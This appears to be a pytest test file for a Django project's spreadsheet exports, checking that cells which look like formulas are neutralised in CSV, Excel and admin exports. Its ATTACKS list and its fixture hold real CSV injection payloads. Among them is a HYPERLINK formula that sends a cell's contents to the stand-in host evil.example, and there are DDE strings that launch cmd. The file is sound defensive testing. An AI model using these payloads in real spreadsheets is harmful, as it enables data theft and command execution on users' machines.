"""Spreadsheet safety (OWASP CSV injection): text someone typed never runs as a formula in Excel or LibreOffice.

A text cell starting with =, +, -, @, tab, carriage return or line feed gets a leading single quote; quotes inside
are doubled; real numbers and dates stay numbers and dates. In CSV and Excel alike, on the site and in the admin.
"""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from exports.safety import (
    DANGEROUS_FIRST_CHARACTERS,
    csv_lines,
    looks_like_a_formula,
    neutralise,
    readable_text,
)
from exports.writers import write_workbook
from projects.models import ProjectMembership
from tests import factories

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(attack):
    assert neutralise(attack) == "'" + attack


@given(st.text())
def test_no_text_ever_comes_out_starting_with_a_dangerous_character(text):
    assert not neutralise(text).startswith(DANGEROUS_FIRST_CHARACTERS)


@given(st.text().filter(lambda t: readable_text(t) == t and not looks_like_a_formula(t)))
def test_ordinary_text_is_left_exactly_as_it_was(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [-5, 3.25, 0, dt.date(2026, 1, 2), dt.datetime(2026, 1, 2, 9, 30), True, None])
def test_numbers_dates_and_yes_no_values_pass_through_unchanged(value):
    assert neutralise(value) is value


def test_in_csv_quotes_are_doubled_and_numbers_are_left_bare():
    lines = "".join(csv_lines(["what", "how many"], [['say "=1+1"', -5], ["=1+1", 3.5]]))
    assert lines == '\ufeff"what","how many"\r\n"say ""=1+1""",-5\r\n"\'=1+1",3.5\r\n'
    rows = list(csv.reader(io.StringIO(lines.lstrip("\ufeff"))))
    assert rows[2] == ["'=1+1", "3.5"]


def test_in_excel_a_formula_is_text_and_a_number_is_a_number():
    output, _ = write_workbook([("Sheet", ["text", "number", "date"], [["=1+1", -5, dt.date(2026, 1, 2)]])])
    with output:
        sheet = openpyxl.load_workbook(output).active
    text, number, date = sheet[2]
    assert (text.value, text.data_type) == ("'=1+1", "s")
    assert (number.value, number.data_type) == (-5, "n")
    assert date.is_date and date.value == dt.datetime(2026, 1, 2)


@pytest.fixture
def hostile_member(project):
    """Someone who typed formulas into every box they could."""
    person = factories.MemberFactory(display_name="=HYPERLINK(\"http://evil.example\")")
    factories.ProjectMembershipFactory(
        member=person, project=project, why_involved="@SUM(1+1)", contribution="-2+3", project_role="+44 role"
    )
    return person


def test_formulas_in_a_project_record_are_neutralised_in_the_workbook(client, project, staff_member, hostile_member):
    client.force_login(staff_member)
    response = client.get(reverse("exports:project_record_xlsx", kwargs={"slug": project.slug}))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Members"]
    row = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[0].value))
    assert row[0].value == "'=HYPERLINK(\"http://evil.example\")" and row[0].data_type == "s"
    assert row[2].value == "'+44 role"
    assert row[5].value == "'@SUM(1+1)" and row[6].value == "'-2+3"


def test_formulas_in_a_project_record_are_neutralised_in_the_csv_files(client, project, lead, hostile_member):
    client.force_login(lead)
    response = client.get(reverse("exports:project_record_zip", kwargs={"slug": project.slug}))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    text = archive.read("members.csv").decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example"")"' in text
    rows = list(csv.reader(io.StringIO(text)))
    hostile = next(r for r in rows if "HYPERLINK" in r[0])
    assert hostile[5] == "'@SUM(1+1)" and hostile[6] == "'-2+3"
    assert all(not cell.startswith(DANGEROUS_FIRST_CHARACTERS) for r in rows for cell in r)


def test_formulas_are_neutralised_in_admin_exports_too(hostile_member):
    from projects.resources import ProjectMembershipResource

    dataset = ProjectMembershipResource().export(ProjectMembership.objects.filter(member=hostile_member))
    row = dataset.dict[0]
    assert row["member"] == "'=HYPERLINK(\"http://evil.example\")"
    assert row["why they are involved"] == "'@SUM(1+1)"
    assert row["what they do"] == "'-2+3"
    assert isinstance(row["id"], str) and not row["id"].startswith("'")
